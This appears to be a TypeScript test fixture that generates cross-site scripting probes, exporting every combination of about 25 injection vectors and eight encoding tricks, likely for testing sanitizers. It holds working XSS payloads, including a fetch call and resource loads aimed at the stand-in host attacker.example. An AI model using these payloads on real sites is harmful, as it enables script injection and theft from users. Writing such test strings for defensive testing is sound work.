/** What each string would do if it were ever run: leave a mark, and tell somebody else. */
const PAYLOAD = "(window.broken=1,fetch('//attacker.example/told'))";

/** Ways into a page, each for another parser: elements, attributes, addresses, styles, templates, Markdown. */
const VECTORS = [
  `<script>${PAYLOAD}</script>`,
  '<script src="//attacker.example/a.js"></script>',
  `<img src=x onerror="${PAYLOAD}">`,
  '<img srcset="//attacker.example/a.png 1x">',
  `<svg onload="${PAYLOAD}"></svg>`,
  `<svg><animate onbegin="${PAYLOAD}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe src="javascript:${PAYLOAD}"></iframe>`,
  `<a href="javascript:${PAYLOAD}" autofocus>a</a>`,
  `<details open ontoggle="${PAYLOAD}">`,
  `<video><source onerror="${PAYLOAD}"></video>`,
  `<input autofocus onfocus="${PAYLOAD}">`,
  '<link rel=stylesheet href="//attacker.example/a.css">',
  '<style>@import url(//attacker.example/b.css)</style>',
  '<meta http-equiv=refresh content="0;url=//attacker.example/">',
  '<object data="//attacker.example/a.pdf"></object>',
  '<base href="//attacker.example/">',
  `<form action="//attacker.example/"><button formaction="javascript:${PAYLOAD}">`,
  `</textarea></title><script>${PAYLOAD}</script>`,
  `<!--><script>${PAYLOAD}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${PAYLOAD}>">`,
  `javascript:${PAYLOAD}`,
  `{{constructor.constructor("${PAYLOAD}")()}}`,
  `![a](https://attacker.example/a.png) [b](javascript:${PAYLOAD})`,
  '${' + PAYLOAD + '}',
] as const;

const escaped = (text: string, escape: (character: string) => string): string => text.replace(/[<>"'=]/g, escape);
const codeOf = (character: string): string => character.charCodeAt(0).toString(16).padStart(4, '0');

/** Ways of writing them that one decoding too many would bring back to life. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => text.replace(/[a-z]+/, (first) => first.toUpperCase()),
  (text) => escaped(text, (character) => `&#x${codeOf(character)};`),
  (text) => escaped(text, (character) => `&amp;#${character.charCodeAt(0)};`),
  (text) => escaped(text, (character) => `%${codeOf(character).slice(2)}`),
  (text) => escaped(text, (character) => `\\u${codeOf(character)}`),
  (text) => escaped(text, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0)),
];

/** Every vector in every encoding. */
export const hostileStrings: readonly string[] = VECTORS.flatMap((vector) => ENCODINGS.map((encode) => encode(vector)));
